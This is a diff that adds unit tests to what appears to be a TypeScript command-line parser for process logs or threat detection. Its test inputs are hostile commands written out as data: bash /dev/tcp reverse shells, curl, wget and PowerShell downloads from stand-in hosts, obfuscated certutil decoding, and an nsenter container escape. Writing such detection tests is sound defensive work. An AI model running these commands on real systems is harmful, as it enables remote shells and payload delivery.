@@ -165,6 +165,58 @@ describe('programRuns', () => {
   });
 });
 
+describe('programRuns: what the process record holds', () => {
+  const runs = (line: string, windows = true) => programRuns(line, { windows }).map((r) => [r.image, r.commandLine]);
+
+  it("reads cmd.exe's start title, for /f source, @ and carets, and an unquoted path with spaces", () => {
+    expect(runs('cmd /c start /b "" quill.exe -s')).toEqual([['quill.exe', 'quill.exe -s']]);
+    expect(runs("for /f %a in ('finger gate@203.0.113.9') do call %a")).toEqual([['finger.exe', 'finger gate@203.0.113.9']]);
+    expect(runs('@pushd %TEMP% & @c^e^r^t^u^t^i^l -decode a^^b "c^d"')).toEqual([['certutil.exe', 'certutil -decode a^b "c^d"']]);
+    expect(runs('C:\\Program Files\\Quill DB\\bin\\qsql.exe -U admin')).toEqual([
+      ['qsql.exe', 'C:\\Program Files\\Quill DB\\bin\\qsql.exe -U admin'],
+    ]);
+  });
+
+  it("leaves PowerShell's assignment and call operator out, and runs no expression", () => {
+    expect(runs('$out = & "C:\\ProgramData\\q.exe" /s')).toEqual([['q.exe', '"C:\\ProgramData\\q.exe" /s']]);
+    expect(runs('$p = "C:\\ProgramData\\q.exe"; $n = 1')).toEqual([]);
+    expect(runs("(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")).toEqual([]);
+    expect(runs('Get-Process | Where-Object { $_.Path }').map(([image]) => image)).toEqual(['powershell.exe', 'powershell.exe']);
+  });
+
+  it('reads POSIX redirects, environment and logged sh -c lines as the shell does', () => {
+    expect(runs('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', false)).toEqual([['bash', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']]);
+    expect(runs('0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196', false)).toEqual([['sh', 'sh <&196 >&196 2>&196']]);
+    expect(runs('LANG=C wget -q http://203.0.113.5/x', false)).toEqual([['wget', 'wget -q http://203.0.113.5/x']]);
+    // A log that dropped the quotes: the words after -c are the command's arguments.
+    expect(runs('/bin/sh -c curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh', false)).toEqual([
+      ['curl', 'curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh'],
+    ]);
+    expect(runs('/bin/sh -c /tmp/kworkerd 1>/dev/null 2>&1', false)).toEqual([['kworkerd', '/tmp/kworkerd 1>/dev/null 2>&1']]);
+    // On a Unix article `/tmp` is a directory, so `;` separates commands.
+    expect(runs('cd /tmp && wget -q http://203.0.113.5/x; chmod +x x', false).map(([image]) => image)).toEqual(['wget', 'chmod']);
+  });
+
+  it('keeps a wrapper whose switches are the behaviour, with the command it runs', () => {
+    expect(runs('nsenter -t 1 -m -u -i -n sh', false)).toEqual([
+      ['nsenter', 'nsenter -t 1 -m -u -i -n sh'],
+      ['sh', 'sh'],
+    ]);
+    expect(runs('sudo nohup ./agent', false)).toEqual([['agent', './agent']]);
+  });
+
+  it('reads a line a page wrapped before a URL or a switch, after -Command or after an operator, as one command', () => {
+    expect(runs('curl -o a.msi\nhttp://203.0.113.5/a && \nexplorer /select,a.msi')).toEqual([
+      ['curl.exe', 'curl -o a.msi http://203.0.113.5/a'],
+      ['explorer.exe', 'explorer /select,a.msi'],
+    ]);
+    expect(runs('powershell.exe -Command \n"iwr http://203.0.113.5/a"')).toEqual([
+      ['powershell.exe', 'powershell.exe -Command  "iwr http://203.0.113.5/a"'],
+    ]);
+    expect(runs('whoami /all\nipconfig /all').map(([image]) => image)).toEqual(['whoami.exe', 'ipconfig.exe']);
+  });
+});
+
 describe('commandFacts: indicators', () => {
   it('lists URLs, hosts and paths, never switches', () => {
     const facts = commandFacts('net use \\\\10.1.1.5\\c$ & scp -i ~/.ssh/k root@203.0.113.9:/tmp/x . & curl -o /tmp/.x http://evil.test/p');
